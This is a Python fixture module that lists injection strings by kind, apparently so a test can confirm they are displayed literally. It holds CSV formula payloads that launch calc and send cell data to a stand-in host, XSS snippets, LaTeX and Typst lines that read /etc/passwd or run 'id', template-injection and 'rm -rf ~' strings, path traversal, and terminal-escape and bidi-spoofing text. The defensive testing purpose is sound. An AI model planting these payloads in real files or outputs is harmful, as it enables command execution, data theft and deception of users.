"""Words that another program would obey: by kind, each to be shown as it is written and never followed."""

from __future__ import annotations

import re

FORMULAS = {
    "equals": '=HYPERLINK("http://example.invalid/?"&A1,"kind-equals")',
    "plus": "+cmd|' /C calc'!A0 kind-plus",
    "minus": "-2+3+cmd|' /C calc'!A0 kind-minus",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 kind-at",
    "tab": "\t=1+1 kind-tab",
    "return": "\r=1+1 kind-return",
    "newline": "\n=1+1 kind-newline",
    "wide": "＝1+1 kind-wide",
    "apostrophe": "'=1+1 kind-apostrophe",
    "behind": "kind-behind;=1+1\n=2+2\t=3+3;\"=4+4",
}
MARKUP = {
    "html": (
        "kind-html</td></table></style></script><script>alert(1)</script><img src=http://example.invalid/x "
        "onerror=\"alert(2)\"><svg onload=alert(3)>&lt;b&gt;&#60;i&#62;<a href='javascript:alert(4)'>go</a><!-- -->"
        "\" onmouseover=alert(5) '"
    ),
    "markdown": (
        "# kind-markdown [link](http://example.invalid/m) ![picture](http://example.invalid/p.png) *star* __under__ "
        "`code` $math^2$ $$x$$ <div>raw</div> ⟦strong⟧ | a | b |"
    ),
    "latex": r"kind-latex \input{/etc/passwd} \write18{id} \href{http://example.invalid}{x} $\frac{1}{0}$ % & # ^^5c ~",
    "typst": (
        'kind-typst #read("/etc/passwd") #eval("1+1") #include "x.typ" ] [ $ x^2 $ ``` raw ``` `tick` @ref <label> '
        '#link("http://example.invalid")[go] // comment /* more */ = Heading *bold* _thin_ \\ #{1+1} --- ~'
    ),
    "code": (
        "%%bash kind-code !rm -rf ~ %run x.py {{ 7*7 }} {% include '/etc/passwd' %} {# note #} {0.__class__} "
        "{n:incident|incidents} {n} %s %(name)s ${HOME} $(id) `id` _x0041_"
    ),
    "path": (
        r"../../../etc/passwd kind-path C:\Windows\System32 \\server\share file:///etc/passwd http://example.invalid/ "
        "~/x"
    ),
}
STEERING = {
    "terminal": (
        "kind-terminal \x1b[31mred\x1b[2J \x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x07 \x9b31m "
        "\x9d0;title\x9c bell\x07 back\b\b\b del\x7f"
    ),
    "direction": (
        "kind-direction \u202egnp.exe\u202c \u2066in\u2069 \u2067rl\u2069 \u061c\u200e\u200f zero\u200bwidth \u2060 "
        "\ufeffmark line\u2028end\u2029."
    ),
    "half": "kind-half nul\x00 none\ufffe \uffff private\ue000 tag\U000e0041.",
}
EVERY = FORMULAS | MARKUP | STEERING
TEXTS = tuple(EVERY.values())


def given_back(cell: str) -> str:
    """Return a cell of a .csv with one apostrophe taken away at its beginning and where another could begin in it."""
    return re.sub("(?<=[\n\r\t;])'", "", cell.removeprefix("'"))
